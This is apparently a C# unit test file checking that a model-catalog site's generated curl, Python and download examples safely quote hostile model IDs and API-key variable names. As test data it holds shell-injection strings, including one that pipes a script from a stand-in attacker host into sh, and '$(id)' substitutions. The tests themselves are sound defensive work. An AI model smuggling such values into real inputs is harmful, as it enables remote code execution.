using System.Diagnostics;
using ModelHub.Web.Features.Catalog;

namespace ModelHub.UnitTests;

/// <summary>
/// Request examples built from hostile catalog values stay inert: the curl example is run by bash with
/// curl replaced by a function that prints its arguments, and the Python example is parsed by Python.
/// </summary>
public sealed class RequestExampleQuotingTests
{
    private const string HostileId = "x'; touch PWNED; echo '\"$(touch PWNED2)`touch PWNED3`\n# next line";

    private static RouteView Route(ApiStyle style, string id, string? variable = "OPENAI_API_KEY", bool weights = false) => new(
        1, "p", "P", style, "https://api.example.com/v1", variable, id, 1, 2, null, null, null, null, false, weights, null, CatalogStatus.Available,
        new SourceView(1, CatalogSourceKind.Import, "test", null, null, DateTime.UtcNow));

    private static async Task<(string Output, bool Pwned)> RunInBashAsync(string script)
    {
        var folder = Directory.CreateTempSubdirectory("modelhub-quote-");
        try
        {
            // curl prints each argument on its own line instead of calling anyone.
            var file = Path.Combine(folder.FullName, "example.sh");
            await File.WriteAllTextAsync(file, "curl() { for a in \"$@\"; do printf '%s\\n' \"$a\"; done; }\nhuggingface-cli() { printf '%s\\n' \"$@\"; }\n" + script);
            var start = new ProcessStartInfo("bash", [file]) { WorkingDirectory = folder.FullName, RedirectStandardOutput = true, RedirectStandardError = true };
            using var bash = Process.Start(start)!;
            var output = await bash.StandardOutput.ReadToEndAsync();
            await bash.WaitForExitAsync();
            var pwned = Directory.EnumerateFiles(folder.FullName, "PWNED*").Any();
            return (output, pwned);
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    [Theory]
    [InlineData(ApiStyle.OpenAiCompatible)]
    [InlineData(ApiStyle.Anthropic)]
    [InlineData(ApiStyle.Replicate)]
    public async Task CurlExampleWithAHostileModelIdRunsNothingAndSendsTheIdAsData(ApiStyle style)
    {
        var curl = RequestExamples.For(Route(style, HostileId)).Single(e => e.Language == "curl");

        var (output, pwned) = await RunInBashAsync(curl.Code);

        Assert.False(pwned, output);
        Assert.Contains("touch PWNED", output);
    }

    [Fact]
    public async Task DownloadExampleQuotesTheRepository()
    {
        var download = RequestExamples.For(Route(ApiStyle.Other, HostileId, weights: true)).Single(e => e.Language == "Download");

        var (output, pwned) = await RunInBashAsync(download.Code);

        Assert.False(pwned);
        Assert.Contains("x'; touch PWNED; echo '", output);
    }

    [Theory]
    [InlineData(ApiStyle.OpenAiCompatible)]
    [InlineData(ApiStyle.Anthropic)]
    [InlineData(ApiStyle.Replicate)]
    public async Task PythonExampleKeepsAHostileModelIdInsideOneStringLiteral(ApiStyle style)
    {
        var python = RequestExamples.For(Route(style, HostileId)).Single(e => e.Language == "Python");

        // Parse the example and list its string constants: the hostile ID must be one of them, whole.
        var check = "import ast, sys\ntree = ast.parse(sys.stdin.read())\nprint(any(isinstance(n, ast.Constant) and n.value == " +
            System.Text.Json.JsonSerializer.Serialize(HostileId) + " for n in ast.walk(tree)))";
        var start = new ProcessStartInfo("python3", ["-c", check]) { RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true };
        using var process = Process.Start(start)!;
        await process.StandardInput.WriteAsync(python.Code);
        process.StandardInput.Close();
        var output = await process.StandardOutput.ReadToEndAsync();
        var errors = await process.StandardError.ReadToEndAsync();
        await process.WaitForExitAsync();

        Assert.True(output.Trim() == "True", output + errors);
    }

    [Theory]
    [InlineData("EVIL\"; curl -s https://attacker.example/x | sh; echo \"")]
    [InlineData("$(id)")]
    [InlineData("1ABC")]
    public void VariableNameThatIsNotAnIdentifierIsReplaced(string variable)
    {
        var examples = RequestExamples.For(Route(ApiStyle.OpenAiCompatible, "gpt-4o", variable));

        Assert.All(examples, e => Assert.DoesNotContain(variable, e.Code));
        Assert.Contains("$API_KEY", examples.Single(e => e.Language == "curl").Code);
    }

    [Theory]
    [InlineData("us.anthropic.claude-3-5-haiku-20241022-v1:0", true)]
    [InlineData("accounts/fireworks/models/glm-4p5", true)]
    [InlineData("@cf/meta/llama-3.1-8b-instruct", true)]
    [InlineData("hf:zai-org/GLM-4.5", true)]
    [InlineData("meta/llama-2-70b-chat:02e509c789964a7ea8736978a43525956ef40397be9033abf9fd2badfe68c9e3", true)]
    [InlineData("x'; touch /tmp/pwned; echo '", false)]
    [InlineData("model name", false)]
    [InlineData("a\nb", false)]
    [InlineData("$(id)", false)]
    public void OnlyIdsAProviderCouldListArePlausible(string id, bool plausible) =>
        Assert.Equal(plausible, CatalogRules.IsPlausibleModelId(id));
}
